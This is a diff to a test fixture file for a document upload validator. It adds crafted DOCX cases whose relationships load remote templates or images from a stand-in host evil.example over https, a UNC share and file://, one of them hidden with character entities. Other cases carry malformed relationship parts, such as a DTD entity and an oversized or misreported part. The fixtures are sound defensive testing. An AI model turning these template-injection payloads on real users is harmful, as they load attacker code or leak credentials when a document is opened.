@@ -21,6 +21,22 @@ export const endless: HostileFile[] = [
   ['cv_document', 'a PDF full of names', 'a.pdf', fullOf('/ObjStm/J#61vaScrip'), damaged],
 ];
 const macros = { refused: /macros/ };
+const loading = { refused: /loads parts of it from elsewhere/ };
+const stored = { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' };
+
+/** A document with a relationship of its settings. */
+const relatedTo = (
+  target: string,
+  type = 'attachedTemplate',
+  name = 'word/_rels/settings.xml.rels',
+) =>
+  docxOf({
+    name,
+    content:
+      '<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="a>b" ' +
+      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
+      `Target='${target}' TargetMode="External"/></Relationships>`,
+  });
 
 /** Files that would run something when they are opened. */
 export const active: HostileFile[] = [
@@ -88,4 +104,85 @@ export const active: HostileFile[] = [
     oleOf('WordDocument', '_VBA_PROJECT'),
     macros,
   ],
+  [
+    'cv_document',
+    'a template on the web',
+    'a.docx',
+    relatedTo('https://evil.example/a.dotm'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a template of a share',
+    'a.docx',
+    relatedTo('\\\\evil.example\\a\\a.dotm'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a template by file://',
+    'a.docx',
+    relatedTo('file://evil.example/a.dotm'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a picture that is loaded',
+    'a.docx',
+    relatedTo('http://evil.example/a', 'image'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a template in other letters',
+    'a.docx',
+    relatedTo('&#x68;ttp&#58;//evil.example/a', 'attachedTemplate', 'WORD/_RELS/a.RELS'),
+    loading,
+  ],
+  [
+    'cv_document',
+    'a list of relationships in UTF-16',
+    'a.docx',
+    docxOf({
+      name: 'word/_rels/a.rels',
+      content: Buffer.from('\ufeff<Relationships/>', 'utf16le'),
+    }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a list of relationships with entities',
+    'a.docx',
+    docxOf({ name: '_rels/.rels', content: '<!DOCTYPE a [<!ENTITY e "External">]><a/>' }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a list of relationships that expands',
+    'a.docx',
+    docxOf({ name: '_rels/.rels', content: ' '.repeat(2 * 1024 * 1024) }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a list of relationships that is larger than it says',
+    'a.docx',
+    docxOf({ name: '_rels/.rels', content: ' '.repeat(100_000), claimedSize: 10 }),
+    damaged,
+  ],
+  [
+    'cv_document',
+    'a document with a link',
+    'a.docx',
+    relatedTo('https://ana.test', 'hyperlink'),
+    stored,
+  ],
+  [
+    'cv_document',
+    'an own template',
+    'a.docx',
+    relatedTo('file:///C:\\Users\\Ana\\CV.dotx'),
+    stored,
+  ],
+  ['cv_document', 'the usual template', 'a.docx', relatedTo('Normal.dotm'), stored],
 ];
